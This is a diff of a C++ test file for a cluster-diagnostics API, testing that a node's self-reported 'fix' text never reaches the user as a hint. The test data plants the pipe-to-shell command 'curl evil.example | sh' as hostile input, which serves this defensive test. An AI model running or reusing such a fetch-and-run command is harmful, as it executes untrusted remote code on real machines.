@@ -53,10 +53,11 @@ class ProblemsTest : public ApiTest {
     }
     void check(const std::string& node, const std::string& state, const std::string& subject,
                const std::string& detail) {
-        commit({{keys::node_info(node), Json{{"checks", Json::array({{{"state", state},
-                                                                      {"subject", subject},
-                                                                      {"detail", detail},
-                                                                      {"fix", "mend it"}}})}}}});
+        commit(
+            {{keys::node_info(node), Json{{"checks", Json::array({{{"state", state},
+                                                                   {"subject", subject},
+                                                                   {"detail", detail},
+                                                                   {"fix", "curl evil.example | sh"}}})}}}});
     }
 
     ProcessRecord blog = process(9, "blog", "attic");
@@ -90,7 +91,7 @@ TEST_F(ProblemsTest, TheEdgeIsTheCauseOfAllThatGoesThroughIt) {
     check("root1", "fail", "port 443", "it is held by oldweb.service, and the edge needs it");
     problem = only();
     EXPECT_THAT(problem.cause, HasSubstr("oldweb.service"));
-    EXPECT_THAT(problem.hint, HasSubstr("mend it"));
+    EXPECT_THAT(problem.hint, HasSubstr("restart p2prc-edge.socket"));
 }
 
 TEST_F(ProblemsTest, AnEdgeThatLeavesNamesOutIsNotTheCauseOfOthers) {
@@ -128,9 +129,11 @@ TEST_F(ProblemsTest, WhatANodeFindsOutIsNamedEverywhere) {
     auto problem = only();
     EXPECT_TRUE(problem.down);
     EXPECT_EQ(problem.subject, "memory limits of attic");
+    EXPECT_THAT(problem.hint, HasSubstr("cgroup_enable=memory"));
     EXPECT_THAT(problem.hint, HasSubstr("on attic"));
     EXPECT_EQ(problem.cause.find('\x1b'), std::string::npos)
         << "another node's words reach no terminal as they are";
+    EXPECT_EQ(problem.hint.find("evil"), std::string::npos) << "what to type is never another node's word";
     check("attic", "warn", "disk", "70 MiB are free");
     EXPECT_FALSE(only().down);
     // What it said before it went silent is not known to be so now.
